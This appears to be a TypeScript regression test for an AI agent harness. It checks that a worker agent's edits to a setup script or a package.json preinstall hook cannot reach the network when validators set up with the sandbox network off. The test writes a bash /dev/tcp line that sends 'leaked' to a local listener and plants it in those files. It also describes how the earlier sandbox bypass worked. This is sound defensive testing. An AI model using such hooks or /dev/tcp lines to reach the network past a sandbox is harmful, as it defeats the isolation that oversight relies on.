// Attack 8 of issue 9: with `sandbox.network: false`, a worker's change to what setup runs (the setup
// script itself, or a manifest whose install hook setup runs) reached the network when the validators
// set up their checkouts. Setup gets the network only while the mission has not changed what it reads.
import { readdirSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { bareRepository, checkAndCloseAfterEach, type TestApp, waitFor } from '../helpers/harness.ts';
import { firstFeatures } from '../helpers/plans.ts';
import { approvePlan, missionReaches, startMission } from '../helpers/scenario.ts';
import { handoffTurn, passingValidation, toolTurn } from '../helpers/workers.ts';

let app: TestApp;
checkAndCloseAfterEach(() => app);

/** A listener on the host: any connection to it is a command that reached the network. */
let listener: Server;
let port: number;
let connections: number;
beforeEach(async () => {
  connections = 0;
  listener = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  port = (listener.address() as { port: number }).port;
});
afterEach(() => new Promise((resolve) => listener.close(resolve)));

const reach = () => `(exec 3<>/dev/tcp/127.0.0.1/${port} && echo leaked >&3) 2>/dev/null; true`;
// A miniature `npm install`: runs the manifest's preinstall hook when there is a manifest.
const SETUP = `#!/bin/sh\n[ -f package.json ] && bash -c "$(sed -n 's/.*"preinstall": *"\\(.*\\)".*/\\1/p' package.json)"\necho set up\n`;

describe('setup with the network off', () => {
  it.each([
    ['the setup script named in the config', () => ({ file_path: 'scripts/setup.sh', content: `#!/bin/sh\n${reach()}\necho set up\n` })],
    ['a manifest whose preinstall hook setup runs', () => ({ file_path: 'package.json', content: JSON.stringify({ scripts: { preinstall: reach().replace(/"/g, '') } }) })],
  ])('gives the validators’ setup no network once a worker changed %s', async (_, change) => {
    const scenario = await startMission({
      repo: {
        cloneUrl: bareRepository({ 'cli.js': '', 'scripts/setup.sh': SETUP }),
        config: 'commands:\n  setup: bash scripts/setup.sh\nsandbox:\n  network: false\n',
      },
      turns: [
        toolTurn({ name: 'submit_plan', input: firstFeatures(1) }),
        toolTurn({ name: 'write', input: change() }),
        handoffTurn('Changed how setup works.'),
        ...passingValidation('VAL-001'),
      ],
    });
    app = scenario.app;
    await approvePlan(scenario);
    await missionReaches(app, 'done');
    expect(connections).toBe(0);
  });

  it('still lets setup reach the network while the mission has not changed what it installs (a new test script is not that)', async () => {
    const scenario = await startMission({
      repo: {
        cloneUrl: bareRepository({
          'cli.js': '',
          '.gitignore': 'node_modules\n',
          'package.json': '{"dependencies":{}}\n',
          // It installs (node_modules) and reaches the network while doing so.
          'scripts/setup.sh': `#!/bin/sh\n${reach()}\nmkdir -p node_modules && touch node_modules/.installed\n`,
        }),
        config: 'commands:\n  setup: bash scripts/setup.sh\nsandbox:\n  network: false\n',
      },
      turns: [
        toolTurn({ name: 'submit_plan', input: firstFeatures(1) }),
        toolTurn(
          { name: 'write', input: { file_path: 'cli.js', content: 'console.log(1);\n' } },
          { name: 'write', input: { file_path: 'package.json', content: '{"dependencies":{},"scripts":{"test":"node cli.js"}}\n' } },
        ),
        handoffTurn('Done.'),
        ...passingValidation('VAL-001'),
      ],
    });
    app = scenario.app;
    await approvePlan(scenario);
    await missionReaches(app, 'done');
    // Set up once for the mission: the worker's checkout installs, and both validators' checkouts see
    // what it made (its dependencies are the same: a new test script does not change them).
    expect(connections).toBe(1);
    // Done, the mission gives back its disk: the kept setup and the validators' checkouts.
    const { root } = app.ctx.workspaces;
    const left = () => [...readdirSync(join(root, 'prepared')), ...readdirSync(join(root, 'missions', '1'))].filter((name) => name === '1' || name === 'throwaway' || name.startsWith('.removing-'));
    await waitFor(() => left().length === 0, 'the kept setups and throwaway checkouts removed');
    // Not what a /fix on the pull request would build on again.
    expect(readdirSync(join(root, 'missions', '1'))).toEqual(expect.arrayContaining(['checkout', 'git']));
  });
});
